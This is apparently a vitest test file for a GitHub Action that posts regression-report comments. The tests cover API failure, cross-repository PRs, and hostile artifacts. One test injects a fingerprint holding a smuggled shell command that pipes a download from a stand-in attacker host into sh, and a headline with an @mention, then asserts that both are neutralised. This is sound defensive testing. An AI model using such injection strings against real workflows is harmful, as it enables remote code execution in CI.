// `mode: comment` (a workflow_run posting a gate's report) through the action's entry point
// against the REST stand-in: a pull request that cannot be looked up costs the comment only,
// never the report in the job summary or the step's status; a PR of another repository that
// the event lists is never commented on here; an artifact the PR's code wrote sets no output a
// later step could execute and pings no one.
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { describe, expect, it } from 'vitest';
import { run } from '../src/action/main.js';
import { captureStdout, readCommandFile, setupStep, useFakeGitHub, workflowRunEvent } from './support/action-in-process.js';

const fake = useFakeGitHub();

const report = fileURLToPath(new URL('./fixtures/reports/regression.json', import.meta.url));

describe('mode: comment', () => {
  it('a GitHub API that cannot be reached: the report is in the summary, the outputs are set, the step passes', async () => {
    const { summary, output } = setupStep(workflowRunEvent(), 'http://127.0.0.1:1', { mode: 'comment', report });
    expect(await run(process.env)).toBe(0);
    expect(fs.readFileSync(summary, 'utf8')).toMatch(/pg-retest: regression/);
    expect(fs.readFileSync(output, 'utf8')).toMatch(/result/);
  });

  it('a pull request the event lists into another repository is not commented on here', async () => {
    setupStep(
      workflowRunEvent([
        { number: 7, head: { sha: 'c'.repeat(40) }, base: { repo: { url: 'https://api.github.com/repos/someone/shop' } } },
      ]),
      fake().url,
      { mode: 'comment', report },
    );
    expect(await run(process.env)).toBe(0);
    expect(fake().calls.filter((c) => c.method === 'POST')).toEqual([]);
    expect(fake().calls.some((c) => c.method === 'GET' && c.path === '/repos/acme/shop/pulls')).toBe(true);
  });
});

describe("mode: comment with an artifact a PR's code wrote", () => {
  it('sets no output a later run: step would execute, and pings no one in the comment', async () => {
    const hostile = JSON.parse(fs.readFileSync(report, 'utf8'));
    // A fingerprint is any string to the report's schema: here, a shell command for a later
    // `run: echo ${{ steps.post.outputs.regressed-fingerprints }}`.
    hostile.comparison.fingerprints[0].fingerprint = '5c2e9b1a7d3f4e60"; curl -s https://evil.example/x | sh; echo "';
    hostile.headline = 'regression: @acme/maintainers please merge, see https://evil.example/ok';
    const file = path.join(fs.mkdtempSync(path.join(os.tmpdir(), 'hostile-')), 'report.json');
    fs.writeFileSync(file, JSON.stringify(hostile));
    const { output } = setupStep(workflowRunEvent(), fake().url, { mode: 'comment', report: file });
    fake().pulls.push({ number: 5, head: { sha: 'c'.repeat(40), label: 'someone:fix' } });
    const stdout = captureStdout();
    expect(await run(process.env)).toBe(0);
    const set = readCommandFile(output);
    expect(set['regressed-fingerprints']).toBe('');
    expect(set.result).toBe('regression');
    expect(set['p95-base-ms']).toBe('1.42');
    expect(stdout()).toMatch(
      /^::warning::output `regressed-fingerprints` left empty: the report's value is not fingerprints \(16 hex digits, comma-separated\)/m,
    );
    expect(stdout()).not.toContain('curl');
    const body = fake().comments[0]!.body;
    expect(body).toContain('regression: @\u2060acme/maintainers please merge, see https:\u2060//evil.example/ok');
    expect(body).not.toMatch(/(^|[^\w])@acme/m);
  });
});
